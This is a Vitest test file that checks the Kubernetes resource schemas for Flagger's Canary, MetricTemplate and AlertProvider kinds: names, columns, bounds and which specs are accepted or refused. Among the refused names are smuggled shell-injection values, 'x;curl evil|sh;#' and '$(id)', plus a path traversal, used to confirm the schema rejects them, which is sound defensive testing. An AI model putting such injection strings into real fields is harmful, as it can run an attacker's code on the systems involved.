import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { apiShapes } from '../../scripts/generate/api/api-shapes.ts'
import { apiTypes } from '../../scripts/generate/api/api-types.ts'
import { definitions, refusals } from './custom-resources.ts'

type Tree = { [key: string]: unknown }

const root = join(import.meta.dirname, '../..')
const byKind = new Map(definitions.map((definition) => [definition.spec.names.kind, definition]))

describe.each(definitions)('$metadata.name', ({ metadata, spec }) => {
  test('is served and stored as v1beta1, with a status of its own', () => {
    expect(spec).toMatchObject({ group: 'flagger.app', scope: 'Namespaced' })
    expect(spec.versions).toMatchObject([
      { name: 'v1beta1', served: true, storage: true, subresources: { status: {} } },
    ])
    expect(metadata.annotations).toEqual({ 'helm.sh/resource-policy': 'keep' })
  })
})

test('names do not change, and short names take none of the core ones', () => {
  expect(definitions.map(({ spec }) => spec.names)).toEqual([
    {
      kind: 'Canary',
      listKind: 'CanaryList',
      plural: 'canaries',
      singular: 'canary',
      shortNames: ['cnr'],
      categories: ['all'],
    },
    {
      kind: 'MetricTemplate',
      listKind: 'MetricTemplateList',
      plural: 'metrictemplates',
      singular: 'metrictemplate',
      shortNames: ['mtpl'],
      categories: ['all'],
    },
    {
      kind: 'AlertProvider',
      listKind: 'AlertProviderList',
      plural: 'alertproviders',
      singular: 'alertprovider',
      shortNames: ['aprov'],
      categories: ['all'],
    },
  ])
})

test('columns are those of Flagger, in its order', () => {
  const columns = byKind.get('Canary')?.spec.versions[0]?.additionalPrinterColumns
  expect(
    columns?.map(({ name, type, jsonPath, priority }) => [name, type, jsonPath, priority]),
  ).toEqual([
    ['Status', 'string', '.status.phase', undefined],
    ['Weight', 'string', '.status.canaryWeight', undefined],
    ['Suspended', 'boolean', '.spec.suspend', 1],
    ['FailedChecks', 'string', '.status.failedChecks', 1],
    ['Interval', 'string', '.spec.analysis.interval', 1],
    ['Mirror', 'boolean', '.spec.analysis.mirror', 1],
    ['StepWeight', 'string', '.spec.analysis.stepWeight', 1],
    ['StepWeights', 'string', '.spec.analysis.stepWeights', 1],
    ['MaxWeight', 'string', '.spec.analysis.maxWeight', 1],
    ['LastTransitionTime', 'string', '.status.lastTransitionTime', undefined],
  ])
})

test('what the controller adds to the status is bounded', () => {
  const schema = byKind.get('Canary')?.spec.versions[0]?.schema.openAPIV3Schema as Tree
  const { properties } = (schema.properties as Tree).status as { properties: Tree }
  const added = ['controller', 'canaryAnalysis', 'history', 'requests', 'handledRequestIds']
  for (const field of [...added, 'conditions'])
    expect(unbounded(properties[field] as Tree, `status.${field}`)).toEqual([])
})

test('generated files are up to date', async () => {
  for (const { path, text } of [...(await apiTypes(root)), ...(await apiShapes(root))])
    expect(await readFile(join(root, path), 'utf8')).toBe(text)
})

describe('the schema of Canary', () => {
  const canaryWith = (analysis: Tree, spec: Tree = {}) => ({
    apiVersion: 'flagger.app/v1beta1',
    kind: 'Canary',
    metadata: { name: 'podinfo' },
    spec: {
      targetRef: { apiVersion: 'apps/v1', kind: 'Deployment', name: 'podinfo' },
      service: { port: 80 },
      analysis,
      ...spec,
    },
  })

  test.each<[string, Tree, Tree?]>([
    ['a weight in steps', { interval: '1m', stepWeight: 10 }],
    ['iterations beside a weight', { interval: '1m', stepWeight: 10, iterations: 20 }],
    ['hours', { interval: '1h', iterations: 1 }],
    ['weights of tenths of a percent', { interval: '1m', stepWeights: [0.1, 2.5], maxWeight: 2.5 }],
    [
      'a router of a user',
      { interval: '1m', iterations: 1 },
      { provider: 'custom:openshift-route' },
    ],
    [
      'several Ingresses and routes',
      { interval: '1m', iterations: 1 },
      {
        ingressRef: { apiVersion: 'networking.k8s.io/v1', kind: 'Ingress', name: 'a' },
        ingressRefs: [{ apiVersion: 'networking.k8s.io/v1', kind: 'Ingress', name: 'b' }],
        httpRouteRefs: [{ name: 'c' }],
      },
    ],
    ['weights that Flagger clamps', { interval: '1m', stepWeights: [50, 200], maxWeight: 150 }],
    [
      'a hook of the empty type',
      { interval: '1m', iterations: 1, webhooks: [{ name: 'a', url: 'b', type: '' }] },
    ],
    [
      'no pods at all, for KEDA',
      { interval: '1m', iterations: 1 },
      {
        autoscalerRef: {
          apiVersion: 'keda.sh/v1alpha1',
          kind: 'ScaledObject',
          name: 'podinfo',
          primaryScalerReplicas: { minReplicas: 0 },
        },
      },
    ],
    [
      'a locality alone',
      { interval: '1m', iterations: 1 },
      {
        service: {
          port: 80,
          trafficPolicy: { loadBalancer: { localityLbSetting: { enabled: true } } },
        },
      },
    ],
  ])('accepts %s', (_what, analysis, spec) => {
    expect(refusals(canaryWith(analysis, spec))).toEqual([])
  })

  test.each<[string, Tree, Tree?]>([
    ['an analysis without an end', { interval: '1m' }],
    ['an analysis without an interval', { stepWeight: 10 }],
    ['an interval without a unit', { interval: '10', stepWeight: 10 }],
    ['a fractional number of checks', { interval: '1m', iterations: 2.5 }],
    ['a negative weight', { interval: '1m', stepWeight: -1 }],
    ['a step over 100', { interval: '1m', stepWeight: 101 }],
    ['a provider that is none', { interval: '1m', iterations: 1 }, { provider: 'Custom:a' }],
    ['an unknown field', { interval: '1m', stepWeight: 10, stepweight: 10 }],
    ['an unknown provider', { interval: '1m', stepWeight: 10 }, { provider: 'ingress9' }],
    ['a port that is none', { interval: '1m', stepWeight: 10 }, { service: { port: 70_000 } }],
    [
      'two ways to match one header',
      { interval: '1m', iterations: 1, match: [{ headers: { a: { exact: 'b', regex: 'c' } } }] },
    ],
    [
      'no way to match a header',
      { interval: '1m', iterations: 1, match: [{ headers: { a: {} } }] },
    ],
    ...['x;curl evil|sh;#', '-podinfo', 'Podinfo', '$(id)', 'a\nb', '../a'].flatMap(
      (name): [string, Tree, Tree?][] => [
        [
          `${JSON.stringify(name)} as the name of a Service`,
          { interval: '1m', iterations: 1 },
          { service: { port: 80, name } },
        ],
        [
          `${JSON.stringify(name)} as the name of a target`,
          { interval: '1m', iterations: 1 },
          { targetRef: { apiVersion: 'apps/v1', kind: 'Deployment', name } },
        ],
        [
          `${JSON.stringify(name)} as the namespace of a template`,
          {
            ...{ interval: '1m', iterations: 1 },
            metrics: [{ name: 'a', templateRef: { name: 'a', namespace: name } }],
          },
        ],
      ],
    ),
  ])('refuses %s', (_what, analysis, spec) => {
    expect(refusals(canaryWith(analysis, spec))).not.toEqual([])
  })
})

test('an alert provider has an address, a secret or both', () => {
  const provider = (spec: Tree) => ({
    apiVersion: 'flagger.app/v1beta1',
    kind: 'AlertProvider',
    metadata: { name: 'slack' },
    spec: { type: 'slack', ...spec },
  })
  const secretRef = { name: 'slack' }
  expect(refusals(provider({ address: 'https://chat' }))).toEqual([])
  expect(refusals(provider({ secretRef }))).toEqual([])
  expect(refusals(provider({ address: 'https://chat', secretRef }))).toEqual([])
  expect(refusals(provider({}))).not.toEqual([])
})

/** Paths of texts and lists that may have any length. */
function unbounded(schema: Tree, path: string): string[] {
  const { type, format, enum: choices, maxLength, maxItems } = schema
  const inner = Object.entries((schema.properties ?? {}) as Tree).flatMap(([name, property]) =>
    unbounded(property as Tree, `${path}.${name}`),
  )
  const items = schema.items ? unbounded(schema.items as Tree, `${path}[]`) : []
  const values = schema.additionalProperties
    ? unbounded(schema.additionalProperties as Tree, `${path}{}`)
    : []
  const isFree =
    (type === 'string' && !choices && format !== 'date-time' && maxLength === undefined) ||
    (type === 'array' && maxItems === undefined) ||
    (schema.additionalProperties !== undefined && schema.maxProperties === undefined)
  return [...(isFree ? [path] : []), ...inner, ...items, ...values]
}
